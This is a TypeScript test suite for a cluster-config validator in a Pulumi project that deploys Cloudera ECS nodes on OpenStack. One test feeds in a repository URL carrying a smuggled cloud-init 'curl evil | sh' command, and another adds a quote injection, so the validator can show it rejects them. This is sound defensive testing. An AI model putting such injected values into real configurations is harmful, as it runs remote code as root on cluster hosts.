import * as assert from "assert";
import { EcsConfigError } from "../../components/config/errors";
import { validateClusterConfig } from "../../components/config/validate";
import { clone, readStackConfig } from "../support/stackConfig";

type Raw = ReturnType<typeof readStackConfig>;
type Nodes = Array<Record<string, unknown>>;
const dev = readStackConfig("dev");

function problemsOf(mutate: (raw: Raw) => void): EcsConfigError["problems"] {
  const raw = clone(dev);
  mutate(raw);
  try {
    validateClusterConfig(raw);
  } catch (e) {
    assert.ok(e instanceof EcsConfigError, `expected EcsConfigError, got ${String(e)}`);
    return e.problems;
  }
  assert.fail("expected the config to be rejected");
}

const nodes = (raw: Raw) => raw.nodes as Nodes;
const cm = (raw: Raw) => raw.cloudera as Record<string, unknown>;
const os = (raw: Raw) => raw.openstack as Record<string, unknown>;

describe("validateClusterConfig", () => {
  it("accepts the dev stack and normalises it", () => {
    const c = validateClusterConfig(clone(dev));
    assert.strictEqual(c.nodes.length, 6);
    assert.deepStrictEqual(
      c.nodes.map((n) => [n.hostname, n.ip, n.role]),
      [
        ["ds01.ecs.openstack.com", "192.168.8.141", "server"],
        ["ds02.ecs.openstack.com", "192.168.8.142", "server"],
        ["ds03.ecs.openstack.com", "192.168.8.143", "server"],
        ["ds04.ecs.openstack.com", "192.168.8.144", "agent"],
        ["ds05.ecs.openstack.com", "192.168.8.145", "agent"],
        ["ds06.ecs.openstack.com", "192.168.8.146", "agent"],
      ],
    );
    assert.strictEqual(c.cloudera.host, "cm.ecs.openstack.com");
    assert.strictEqual(c.cloudera.tlsVerify, true);
    assert.strictEqual(c.nodes[0].flavor, "ecs.server.16c64g");
    assert.strictEqual(c.nodes[3].flavor, "ecs.agent.32c128g");
    assert.strictEqual(c.nodes[0].dataVolumeGb, 500);
  });

  it("applies defaults for optional node fields", () => {
    const raw = clone(dev);
    nodes(raw).forEach((n) => {
      delete n.rebuild;
      delete n.rejoin;
      delete n.evacuation;
    });
    const c = validateClusterConfig(raw);
    assert.deepStrictEqual(
      c.nodes.map((n) => [n.rebuild, n.rejoin, n.evacuation]),
      Array(6).fill([0, 0, "drain"]),
    );
  });

  it("grows past six nodes by config alone", () => {
    const raw = clone(dev);
    for (let i = 7; i <= 20; i++) {
      nodes(raw).push({ name: `ds${String(i).padStart(2, "0")}`, ip: `192.168.8.${140 + i}`, role: "agent" });
    }
    const hostKey = nodes(raw)[0].sshHostKey;
    nodes(raw).push(
      { name: "ds21", ip: "192.168.8.161", role: "server", sshHostKey: hostKey },
      { name: "ds22", ip: "192.168.8.162", role: "server", sshHostKey: hostKey },
    );
    const c = validateClusterConfig(raw);
    assert.strictEqual(c.nodes.length, 22);
    assert.strictEqual(c.nodes.filter((n) => n.role === "server").length, 5);
  });

  it("accepts string generations as `pulumi config set` writes them", () => {
    const raw = clone(dev);
    nodes(raw)[0].rebuild = "3";
    assert.strictEqual(validateClusterConfig(raw).nodes[0].rebuild, 3);
  });

  const cases: Array<[string, (raw: Raw) => void, string, RegExp]> = [
    [
      "an even number of servers",
      (r) => (nodes(r)[3].role = "server"),
      "ecs:nodes",
      /4 ECS server nodes; etcd needs an odd number/,
    ],
    [
      "fewer than three servers",
      (r) => (nodes(r)[2].role = "agent"),
      "ecs:nodes",
      /2 ECS server nodes.*at least 3/,
    ],
    [
      "one server",
      (r) => (r.nodes = nodes(r).filter((n) => n.name !== "ds02" && n.name !== "ds03")),
      "ecs:nodes",
      /1 ECS server node;/,
    ],
    ["no nodes", (r) => (r.nodes = []), "ecs:nodes", /must be a non-empty list/],
    ["nodes missing", (r) => delete r.nodes, "ecs:nodes", /is required/],
    [
      "nodes not a list",
      (r) => (r.nodes = { ds01: {} }),
      "ecs:nodes",
      /must be a non-empty list, got an object/,
    ],
    [
      "a duplicate name",
      (r) => (nodes(r)[4].name = "ds04"),
      "ecs:nodes[4].name",
      /ds04 is already used by ecs:nodes\[3\]/,
    ],
    [
      "a duplicate IP",
      (r) => (nodes(r)[5].ip = "192.168.8.141"),
      "ecs:nodes[5].ip",
      /already used by ecs:nodes\[0\]/,
    ],
    [
      "a duplicate hostname",
      (r) => (nodes(r)[1].hostname = "ds01.ecs.openstack.com"),
      "ecs:nodes[1].hostname",
      /already used/,
    ],
    [
      "an IP outside the subnet",
      (r) => (nodes(r)[2].ip = "192.168.9.143"),
      "ecs:nodes[2].ip",
      /outside ecs:openstack.subnetCidr 192.168.8.0\/24/,
    ],
    [
      "the subnet's broadcast address",
      (r) => (nodes(r)[2].ip = "192.168.8.255"),
      "ecs:nodes[2].ip",
      /network or broadcast/,
    ],
    ["a malformed IP", (r) => (nodes(r)[1].ip = "192.168.8.300"), "ecs:nodes[1].ip", /not an IPv4 address/],
    [
      "an IP with a leading zero",
      (r) => (nodes(r)[1].ip = "192.168.8.042"),
      "ecs:nodes[1].ip",
      /not an IPv4 address/,
    ],
    ["a missing IP", (r) => delete nodes(r)[1].ip, "ecs:nodes[1].ip", /is required/],
    [
      "an unknown role",
      (r) => (nodes(r)[0].role = "master"),
      "ecs:nodes[0].role",
      /"master" is not a known role.*server, agent/,
    ],
    ["a missing role", (r) => delete nodes(r)[4].role, "ecs:nodes[4].role", /is required/],
    [
      "a name that is not a DNS label",
      (r) => (nodes(r)[0].name = "DS_01"),
      "ecs:nodes[0].name",
      /not a DNS label/,
    ],
    [
      "a hostname that is not an FQDN",
      (r) => (nodes(r)[0].hostname = "ds01"),
      "ecs:nodes[0].hostname",
      /not a fully qualified/,
    ],
    [
      "a hostname with upper case",
      (r) => (nodes(r)[0].hostname = "DS01.ecs.openstack.com"),
      "ecs:nodes[0].hostname",
      /not a fully qualified/,
    ],
    [
      "an unknown evacuation mode",
      (r) => (nodes(r)[0].evacuation = "evict"),
      "ecs:nodes[0].evacuation",
      /not an evacuation mode.*drain, delete-node, force-delete-pods, out-of-service, auto/,
    ],
    [
      "a negative rebuild generation",
      (r) => (nodes(r)[0].rebuild = -1),
      "ecs:nodes[0].rebuild",
      /integer >= 0/,
    ],
    [
      "a fractional rejoin generation",
      (r) => (nodes(r)[0].rejoin = 1.5),
      "ecs:nodes[0].rejoin",
      /integer >= 0/,
    ],
    [
      "a non-numeric generation",
      (r) => (nodes(r)[0].rebuild = "next"),
      "ecs:nodes[0].rebuild",
      /integer >= 0, got "next"/,
    ],
    [
      "a node that is not an object",
      (r) => (nodes(r)[1] = "ds02" as unknown as Record<string, unknown>),
      "ecs:nodes[1]",
      /must be an object/,
    ],
    [
      "a plain-http CM URL",
      (r) => (cm(r).url = "http://cm.ecs.openstack.com:7180"),
      "ecs:cloudera.url",
      /plain http.*allowInsecureHttp/,
    ],
    [
      "a CM URL that is not a URL",
      (r) => (cm(r).url = "cm.ecs.openstack.com"),
      "ecs:cloudera.url",
      /is not a URL/,
    ],
    [
      "a CM URL with an API path",
      (r) => (cm(r).url = "https://cm.ecs.openstack.com:7183/api/v51"),
      "ecs:cloudera.url",
      /has a path/,
    ],
    [
      "a CM URL with another scheme",
      (r) => (cm(r).url = "ftp://cm.ecs.openstack.com"),
      "ecs:cloudera.url",
      /scheme ftp: is not supported/,
    ],
    ["a missing CM username", (r) => delete cm(r).username, "ecs:cloudera.username", /is required/],
    ["a missing CM cluster", (r) => delete cm(r).cluster, "ecs:cloudera.cluster", /is required/],
    [
      "tlsVerify not a boolean",
      (r) => (cm(r).tlsVerify = "yes"),
      "ecs:cloudera.tlsVerify",
      /must be true or false/,
    ],
    ["a missing cloudera section", (r) => delete r.cloudera, "ecs:cloudera", /is required/],
    [
      "a world-open admin CIDR",
      (r) => (os(r).adminCidrs = ["0.0.0.0/0"]),
      "ecs:openstack.adminCidrs[0]",
      /whole internet/,
    ],
    [
      "an IPv6 world-open admin CIDR",
      (r) => (os(r).adminCidrs = ["10.0.0.0/8", "::/0"]),
      "ecs:openstack.adminCidrs[1]",
      /whole internet/,
    ],
    [
      "a malformed admin CIDR",
      (r) => (os(r).adminCidrs = ["10.113.0.0/33"]),
      "ecs:openstack.adminCidrs[0]",
      /not an IPv4 CIDR/,
    ],
    [
      "a subnet CIDR with host bits",
      (r) => (os(r).subnetCidr = "192.168.8.1/24"),
      "ecs:openstack.subnetCidr",
      /host bits clear/,
    ],
    [
      "a network name instead of an ID",
      (r) => (os(r).networkId = "ecs-net"),
      "ecs:openstack.networkId",
      /not an OpenStack ID/,
    ],
    ["a missing image", (r) => delete os(r).image, "ecs:openstack.image", /is required/],
    [
      "an unknown roll order",
      (r) => (r.rollout = { order: "random" }),
      "ecs:rollout.order",
      /"random" is not a roll order.*agents-first, servers-first, or a list/,
    ],
    [
      "a roll order that leaves a node out and names another twice",
      (r) => (r.rollout = { order: ["ds04", "ds04", "ds01", "ds02", "ds03", "ds05", "ds07"] }),
      "ecs:rollout.order",
      /names ds07, not in ecs:nodes; lists ds04 twice; leaves out ds06.*exactly once/,
    ],
    [
      "no agent allowed out",
      (r) => (r.rollout = { maxUnavailableAgents: 0 }),
      "ecs:rollout.maxUnavailableAgents",
      /integer >= 1/,
    ],
    [
      "a mistyped rollout key",
      (r) => (r.rollout = { maxUnavailable: 2 }),
      "ecs:rollout.maxUnavailable",
      /did you mean `maxUnavailableAgents`/,
    ],
    ["a zero data volume", (r) => (os(r).dataVolumeGb = 0), "ecs:openstack.dataVolumeGb", /integer >= 1/],
    ["a bad cluster name", (r) => (r.clusterName = "ECS Prod"), "ecs:clusterName", /not a DNS label/],
    ["a bad domain", (r) => (r.domain = "localhost"), "ecs:domain", /not a well-formed DNS domain/],
    [
      "a rejoin without the node's SSH host key",
      (r) => (nodes(r)[4].rejoin = 1),
      "ecs:nodes[4].sshHostKey",
      /required for a rejoin .*ssh-keyscan/,
    ],
    [
      "a server without its SSH host key (etcd snapshot on a peer before a member goes)",
      (r) => delete nodes(r)[2].sshHostKey,
      "ecs:nodes[2].sshHostKey",
      /required for an ECS server.*etcd snapshot over SSH.*ssh-keyscan/,
    ],
    [
      "a relative RKE2 data directory",
      (r) => (r.ssh = { rke2DataDir: "rancher/rke2" }),
      "ecs:ssh.rke2DataDir",
      /not an absolute path/,
    ],
    [
      "an SSH host key that is a fingerprint, not a key",
      (r) => (nodes(r)[0].sshHostKey = "SHA256:9xL0bGv8Qq1N4bqkq0Jq3c4vRZp0k3m2r1N4bqkq0Jq"),
      "ecs:nodes[0].sshHostKey",
      /not an SSH public key in authorized_keys form/,
    ],
    [
      "an SSH port out of range",
      (r) => (r.ssh = { port: 70000 }),
      "ecs:ssh.port",
      /more than the maximum 65535/,
    ],
    // Typos: an unknown key would silently fall back to a default (for the kubeconfig: ~/.kube/config).
    [
      "a mistyped node key",
      (r) => (nodes(r)[3].evacuaton = "delete-node"),
      "ecs:nodes[3].evacuaton",
      /not a known setting.*did you mean `evacuation`/,
    ],
    [
      "a mistyped CM key",
      (r) => (cm(r).tlsverify = false),
      "ecs:cloudera.tlsverify",
      /not a known setting.*did you mean `tlsVerify`/,
    ],
    [
      "a mistyped Kubernetes key",
      (r) => (r.kubernetes = { kubeconfigpath: "/etc/ecs/kubeconfig" }),
      "ecs:kubernetes.kubeconfigpath",
      /not a known setting.*did you mean `kubeconfigPath`/,
    ],
    [
      "an unknown top-level key",
      (r) => (r.healthgate = { timeoutSec: 60 }),
      "ecs:healthgate",
      /not a known setting.*did you mean `healthGate`/,
    ],
    [
      "an unknown OpenStack key",
      (r) => (os(r).imageName = "x"),
      "ecs:openstack.imageName",
      /did you mean `image`/,
    ],
    // Numbers have upper bounds.
    [
      "an absurd generation",
      (r) => (nodes(r)[0].rebuild = 1e300),
      "ecs:nodes[0].rebuild",
      /integer >= 0|maximum/,
    ],
    [
      "a ready timeout of years",
      (r) => (r.kubernetes = { readyTimeoutSec: 99999999 }),
      "ecs:kubernetes.readyTimeoutSec",
      /99999999, more than the maximum 86400/,
    ],
    [
      "a data volume beyond any Cinder limit",
      (r) => (os(r).dataVolumeGb = 10_000_000),
      "ecs:openstack.dataVolumeGb",
      /more than the maximum 65536/,
    ],
    [
      "a billion SSH attempts",
      (r) => (r.ssh = { dialAttempts: 1e9 }),
      "ecs:ssh.dialAttempts",
      /more than the maximum 100/,
    ],
    // The agent repository goes into cloud-init user data that runs as root.
    [
      "a repository URL with a newline (a cloud-init injection)",
      (r) => (cm(r).agentRepoUrl = "https://repo.example.com/cm7\nruncmd:\n  - [sh, -c, 'curl evil | sh']"),
      "ecs:cloudera.agentRepoUrl",
      /control characters/,
    ],
    [
      "a plain-http repository",
      (r) => (cm(r).agentRepoUrl = "http://repo.example.com/cm7"),
      "ecs:cloudera.agentRepoUrl",
      /plain http.*GPG key could be swapped/,
    ],
    [
      "a repository URL with credentials",
      (r) => (cm(r).agentRepoUrl = "https://user:secret@archive.cloudera.com/p/cm7"),
      "ecs:cloudera.agentRepoUrl",
      /carries credentials/,
    ],
    [
      "a repository URL with quotes",
      (r) => (cm(r).agentRepoUrl = 'https://repo.example.com/cm7"; echo'),
      "ecs:cloudera.agentRepoUrl",
      /outside plain URL characters/,
    ],
    [
      "admin CIDRs that together open the world",
      (r) => (os(r).adminCidrs = ["0.0.0.0/1", "128.0.0.0/1"]),
      "ecs:openstack.adminCidrs",
      /together cover every IPv4 address/,
    ],
    [
      "a hostname longer than Linux allows",
      (r) => (nodes(r)[4].hostname = `${"a".repeat(60)}.example.com`),
      "ecs:nodes[4].hostname",
      /72 characters; a Linux hostname has at most 64/,
    ],
    [
      "a node on the subnet's gateway",
      (r) => (os(r).subnetGateway = "192.168.8.144"),
      "ecs:nodes[3].ip",
      /is ecs:openstack.subnetGateway/,
    ],
    [
      "a gateway outside the subnet",
      (r) => (os(r).subnetGateway = "10.0.0.1"),
      "ecs:openstack.subnetGateway",
      /outside ecs:openstack.subnetCidr/,
    ],
    [
      "a relative RKE2 script directory",
      (r) => (r.ssh = { rke2BinDir: "parcels/ECS/bin" }),
      "ecs:ssh.rke2BinDir",
      /not an absolute path/,
    ],
    [
      "a zero health gate timeout",
      (r) => (r.healthGate = { timeoutSec: 0 }),
      "ecs:healthGate.timeoutSec",
      /integer >= 1/,
    ],
    [
      "drills allowed by a word instead of a boolean",
      (r) => (r.drills = { allowed: "yes" }),
      "ecs:drills.allowed",
      /allow `npm run drill`/,
    ],
    [
      "a mistyped drills setting",
      (r) => (r.drills = { nodeMonitorGracePeriod: 40 }),
      "ecs:drills.nodeMonitorGracePeriod",
      /did you mean `nodeMonitorGracePeriodSec`/,
    ],
  ];

  for (const [what, mutate, field, message] of cases) {
    it(`rejects ${what}, naming ${field}`, () => {
      const problems = problemsOf(mutate);
      const hit = problems.find((p) => p.field === field && message.test(`${p.problem}. Fix: ${p.fix}`));
      assert.ok(
        hit,
        `no problem for ${field} matching ${message}; got:\n${JSON.stringify(problems, null, 1)}`,
      );
      assert.ok(hit.fix.length > 5, "every problem says how to fix it");
    });
  }

  it("defaults the SSH settings and accepts a rejoin with the node's host key", () => {
    const raw = clone(dev);
    nodes(raw)[3].rejoin = 2;
    nodes(raw)[3].sshHostKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostKeyOfDs04 root@ds04";
    const c = validateClusterConfig(raw);
    assert.deepStrictEqual(c.ssh, {
      user: "root",
      port: 22,
      rke2BinDir: "/opt/cloudera/parcels/ECS/bin",
      rke2DataDir: "/var/lib/rancher/rke2",
      dialTimeoutSec: 15,
      dialAttempts: 10,
    });
    assert.strictEqual(c.nodes[3].rejoin, 2);
    assert.match(c.nodes[3].sshHostKey ?? "", /^ssh-ed25519 /);
    assert.deepStrictEqual(c.healthGate, { timeoutSec: 900, stuckTerminatingSec: 300 });
  });

  it("reports every problem at once, in one readable message", () => {
    const raw = clone(dev);
    nodes(raw)[0].role = "master";
    nodes(raw)[1].ip = "10.0.0.1";
    cm(raw).url = "http://cm:7180";
    try {
      validateClusterConfig(raw);
      assert.fail("expected rejection");
    } catch (e) {
      assert.ok(e instanceof EcsConfigError);
      const fields = e.problems.map((p) => p.field);
      assert.ok(fields.includes("ecs:nodes[0].role"));
      assert.ok(fields.includes("ecs:nodes[1].ip"));
      assert.ok(fields.includes("ecs:cloudera.url"));
      assert.match(e.message, /invalid ecs-pulumi configuration \(\d+ problems\)/);
      assert.match(e.message, /ecs:nodes\[1\]\.ip: 10\.0\.0\.1 is outside .* Fix: /);
    }
  });

  it("allows plain http only when asked to", () => {
    const raw = clone(dev);
    cm(raw).url = "http://127.0.0.1:7180";
    cm(raw).allowInsecureHttp = true;
    assert.strictEqual(validateClusterConfig(raw).cloudera.url, "http://127.0.0.1:7180");
  });
});
